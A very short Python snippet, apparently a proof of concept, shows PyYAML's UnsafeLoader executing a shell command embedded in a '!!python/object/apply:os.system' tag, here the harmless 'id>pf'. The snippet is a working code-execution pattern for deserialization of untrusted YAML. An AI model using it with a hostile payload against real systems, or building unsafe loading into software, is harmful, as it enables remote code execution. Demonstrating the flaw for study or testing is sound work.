import yaml, io
L = yaml.unsafe_load.__globals__["UnsafeLoader"] if 0 else yaml.UnsafeLoader
l = L(io.StringIO("!!python/object/apply:os.system ['id>pf']"))
l.get_single_data()
